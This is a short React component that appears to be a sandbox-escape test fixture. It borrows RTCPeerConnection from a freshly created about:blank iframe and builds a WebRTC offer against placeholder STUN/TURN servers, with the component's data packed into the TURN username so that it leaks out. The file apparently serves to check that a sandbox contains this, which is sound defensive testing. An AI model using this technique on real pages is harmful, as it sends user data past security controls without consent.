import { useEffect } from "react";

// Escape attempt: webrtc_nested_blank — an about:blank frame's window, used from the component's realm
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_nested_blank-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const frame = document.createElement("iframe");
      document.body.appendChild(frame);
      const Peer = frame.contentWindow.RTCPeerConnection;
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_nested_blank</p>;
}
